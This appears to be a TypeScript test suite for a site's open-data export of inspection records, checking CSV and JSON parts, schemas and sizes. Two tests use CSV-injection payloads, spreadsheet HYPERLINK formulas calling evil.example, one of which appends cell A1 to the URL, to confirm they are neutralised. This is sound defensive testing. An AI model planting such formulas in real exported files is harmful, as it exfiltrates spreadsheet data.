import { parse } from "csv-parse/sync";
import { Ajv } from "ajv";
import { Ajv2020 } from "ajv/dist/2020.js";
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { gunzipSync } from "node:zlib";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { csvChunks, toCsv } from "../../src/render/csv.ts";
import { jsonTable } from "../../src/render/open-data-files.ts";
import { openDataFiles, readSite } from "../../src/site.ts";
import { projectRoot, runBuild } from "../fixtures/build-site.ts";

const openData = suite("open data");
let site = "";

openData.before(() => {
  site = mkdtempSync(join(tmpdir(), "explainers-open-data-"));
  const result = runBuild(["--output", join(site, "out")]);
  if (result.status !== 0) throw new Error(result.stderr);
  site = join(site, "out");
});
openData.after(() => rmSync(join(site, ".."), { recursive: true, force: true }));

const read = (path: string) => readFileSync(join(site, path), "utf8");

interface PartsIndex {
  part_bytes: number;
  tables: Record<
    "inspections" | "judgements",
    { rows: number; whole_csv_gz: string; parts: { year: string; rows: number; csv: string; json: string }[] }
  >;
}
const partsIndex = (): PartsIndex => JSON.parse(read("data/parts.json"));

/** A large table's rows, from its parts in order: as JSON, and as CSV read back by a CSV parser. */
function table(name: "inspections" | "judgements") {
  const { parts } = partsIndex().tables[name];
  return {
    json: parts.flatMap((part) => JSON.parse(read(`data/${part.json}`))[name] as Record<string, unknown>[]),
    csv: parts.flatMap(
      (part) => parse(read(`data/${part.csv}`), { columns: true, bom: true }) as Record<string, string>[],
    ),
  };
}

/** What a CSV reader gives back for a JSON value: text, with empty for null. */
const asCsvText = (row: Record<string, unknown>) =>
  Object.fromEntries(Object.entries(row).map(([key, value]) => [key, value === null ? "" : String(value)]));

openData(
  "a text cell that would start a formula is neutralised with a quote (CSV injection, as OWASP recommends); numbers are not",
  () => {
    const rows = [
      { text: '=HYPERLINK("https://evil.example","Click")', number: -3 },
      { text: "@SUM(A1:A9)", number: 4 },
      { text: "+44 20 7946 0000", number: null },
      { text: "-5 children", number: null },
      { text: "\tindented", number: null },
      { text: "\rreturn", number: null },
      { text: 'A plain, quoted "text"', number: 2.5 },
    ];
    assert.is(
      toCsv(["text", "number"], rows),
      [
        "text,number",
        `"'=HYPERLINK(""https://evil.example"",""Click"")",-3`,
        `"'@SUM(A1:A9)",4`,
        `"'+44 20 7946 0000",`,
        `"'-5 children",`,
        `"'\tindented",`,
        `"'\rreturn",`,
        `"A plain, quoted ""text""",2.5`,
        "",
      ].join("\r\n"),
    );
  },
);

openData("an organisation named like a formula reaches inspections.csv as text, and the JSON as written", () => {
  const project = mkdtempSync(join(tmpdir(), "explainers-csv-injection-"));
  try {
    cpSync(join(projectRoot, "content"), join(project, "content"), { recursive: true });
    cpSync(join(projectRoot, "site.yaml"), join(project, "site.yaml"));
    const file = join(project, "content/organisations/oxfordshire.md");
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Oxfordshire")';
    writeFileSync(file, readFileSync(file, "utf8").replace("name: Oxfordshire County Council", `name: '${formula}'`));
    const files = new Map(
      [...openDataFiles(readSite(project, "content", {}))].map(([path, pieces]) => [path, [...pieces].join("")]),
    );
    // openDataFiles gives a .gz file as the text the writer compresses.
    const csv = parse(files.get("data/inspections.csv.gz")!, { columns: true }) as Record<string, string>[];
    const names = new Set(csv.map((row) => row.organisation_name));
    assert.ok(names.has(`'${formula}`), [...names].join(", "));
    assert.not.ok([...names].some((name) => /^[=+\-@]/.test(name)));
    const json = [...files].filter(([path]) => /^data\/inspections\/\d{4}(-\d+)?\.json$/.test(path));
    assert.ok(json.length > 0);
    assert.ok(
      json.some(([, text]) => text.includes(JSON.stringify(formula).slice(1, -1))),
      "the JSON holds the name as written",
    );
  } finally {
    rmSync(project, { recursive: true, force: true });
  }
});

openData("the open data page says how formula-like cells are written", () => {
  assert.match(
    read("data/index.html"),
    'starts with a <code>\'</code> instead, as <a href="https://owasp.org/www-community/attacks/CSV_Injection">OWASP recommends</a>',
  );
});

openData("the inspections' CSV parts read back through a CSV parser to the same data as their JSON parts", () => {
  const { csv: fromCsv, json: fromJson } = table("inspections");
  assert.is(fromCsv.length, 6);
  assert.equal(fromCsv, fromJson.map(asCsvText));
});

openData("the judgements' parts read back to the same data, commas and quotes included", () => {
  const { csv: fromCsv, json: fromJson } = table("judgements");
  assert.equal(fromCsv, fromJson.map(asCsvText));
  assert.ok(
    fromCsv.some((row) => row.area === "Leadership, management and governance"),
    "a label with a comma survives",
  );
});

openData("judgements carry the change the explainer shows, split areas against the old combined grade", () => {
  const rows = table("judgements").json;
  const row = (area: string) =>
    rows.find((item) => item.inspection_id === "oxfordshire/2024-standard-inspection" && item.area_id === area)!;
  assert.equal(
    [row("help-and-protection").change, row("help-and-protection").previous_outcome_ids],
    ["improved", "requires-improvement"],
  );
  assert.equal(
    [row("care-leavers").relation, row("care-leavers").change, row("care-leavers").previous_outcome_ids],
    ["split", "unchanged", "good"],
  );
  assert.is(rows.filter((item) => item.inspection_id === "oxfordshire/2020-focused-visit").length, 0);
});

openData("every JSON file validates against the JSON Schema published beside it", () => {
  const ajv = new Ajv2020({ strict: false });
  const schema = (name: string) => ajv.compile(JSON.parse(read(`data/schema/${name}.schema.json`)));
  const { tables } = partsIndex();
  const files: [string, string][] = [
    ...tables.inspections.parts.map((part): [string, string] => [`data/${part.json}`, "inspections"]),
    ...tables.judgements.parts.map((part): [string, string] => [`data/${part.json}`, "judgements"]),
    ["data/parts.json", "parts"],
    ["data/organisations.json", "organisations"],
    ...readdirSync(join(site, "data/organisations")).map((name): [string, string] => [
      `data/organisations/${name}`,
      "organisation",
    ]),
  ];
  // Inspections placed in 2014, 2018, 2020 and 2024 (Oxfordshire) and the example police force's years.
  assert.ok(tables.inspections.parts.length >= 4, JSON.stringify(tables.inspections.parts));
  assert.is(files.length, tables.inspections.parts.length + tables.judgements.parts.length + 2 + 2);
  for (const [file, name] of files) {
    const validate = schema(name);
    assert.ok(validate(JSON.parse(read(file))), `${file}: ${JSON.stringify(validate.errors)}`);
  }
});

openData("large tables are written in pieces that make the same text as whole", () => {
  const about = { title: "T", licence: "L", publisher: "P", as_at: "2024-01-01", data_notes: [] };
  const rows = Array.from({ length: 7 }, (_, index) => ({
    id: `r${index}`,
    text: index % 2 ? "=1+1" : 'a "b", c',
    n: index,
  }));
  for (const batch of [1, 2, 3, 7, 100]) {
    assert.is([...jsonTable(about, "rows", rows, batch)].join(""), `${JSON.stringify({ about, rows })}\n`, `${batch}`);
    assert.is([...csvChunks(["id", "text", "n"], rows, batch)].join(""), toCsv(["id", "text", "n"], rows), `${batch}`);
  }
  assert.is([...jsonTable(about, "rows", [], 2)].join(""), `${JSON.stringify({ about, rows: [] })}\n`);
});

openData("data files are compact JSON, one line each; their schemas stay indented", () => {
  const data = readdirSync(join(site, "data"), { recursive: true, encoding: "utf8" }).filter(
    (path) => path.endsWith(".json") && !path.startsWith("schema"),
  );
  assert.ok(data.length >= 6, data.join(", "));
  for (const path of data) {
    const text = read(`data/${path}`);
    assert.is(text, `${JSON.stringify(JSON.parse(text))}\n`, path);
  }
  assert.match(read("data/schema/inspections.schema.json"), /^\{\n  "/);
});

openData("the schema is strict: a row with a misspelt column fails validation", () => {
  const validate = new Ajv2020({ strict: false }).compile(JSON.parse(read("data/schema/inspections.schema.json")));
  const data = JSON.parse(read(`data/${partsIndex().tables.inspections.parts[0]!.json}`));
  data.inspections[0].organisaton_id = "typo";
  assert.is(validate(data), false);
});

openData("one JSON file per organisation holds its inspections, judgements and events", () => {
  const oxfordshire = JSON.parse(read("data/organisations/oxfordshire.json"));
  assert.equal(oxfordshire.organisation.ons_code, "E10000025");
  assert.equal(
    oxfordshire.inspections.map((inspection: { id: string }) => inspection.id),
    [
      "oxfordshire/2014-single-inspection",
      "oxfordshire/2018-short-inspection",
      "oxfordshire/2020-focused-visit",
      "oxfordshire/2024-standard-inspection",
    ],
  );
  assert.is(oxfordshire.events.length, 3);
  assert.is(oxfordshire.inspections[3].judgements.length, 5);
});

openData("the content format is published as JSON Schema, and the sample's organisation file fits it", () => {
  // Draft 7, as VS Code's YAML extension needs (src/content/json-schema.ts).
  const validate = new Ajv({ strict: false }).compile(JSON.parse(read("data/schema/content/organisation.schema.json")));
  for (const kind of ["inspection", "organisation", "event", "framework", "scale", "inspectorate"]) {
    assert.ok(JSON.parse(read(`data/schema/content/${kind}.schema.json`)).properties, kind);
  }
  assert.ok(validate({ name: "Oxfordshire County Council", kind: "Upper-tier local authority", region: "South East" }));
  assert.not.ok(validate({ name: "Oxfordshire County Council", kynd: "typo" }));
});

openData(
  "the parts together are the whole table: the compressed CSV, the CSV parts and the JSON parts hold the same rows in the same order",
  () => {
    const index = partsIndex();
    for (const name of ["inspections", "judgements"] as const) {
      const whole = gunzipSync(readFileSync(join(site, "data", index.tables[name].whole_csv_gz))).toString("utf8");
      const [header, ...lines] = whole.split("\r\n");
      const fromParts = index.tables[name].parts.map((part) => {
        const [partHeader, ...rest] = read(`data/${part.csv}`).split("\r\n");
        assert.is(partHeader, header, `${part.csv} has the whole table's columns`);
        assert.is(rest.pop(), "", `${part.csv} ends with a line break`);
        return rest;
      });
      assert.is(lines.pop(), "");
      assert.equal(fromParts.flat(), lines, `${name}: the CSV parts, joined, are the whole CSV`);
      const { json, csv } = table(name);
      assert.is(json.length, index.tables[name].rows);
      assert.equal(csv, json.map(asCsvText));
      assert.equal(
        index.tables[name].parts.map((part) => part.rows),
        index.tables[name].parts.map((part) => JSON.parse(read(`data/${part.json}`))[name].length),
      );
    }
  },
);

openData("no open data file is over 10,000,000 bytes, the most a CDN compresses", () => {
  const sizes = readdirSync(join(site, "data"), { recursive: true, encoding: "utf8" }).map(
    (path) => [path, statSync(join(site, "data", path)).size] as const,
  );
  assert.equal(
    sizes.filter(([, bytes]) => bytes > 10_000_000),
    [],
  );
});

openData.run();
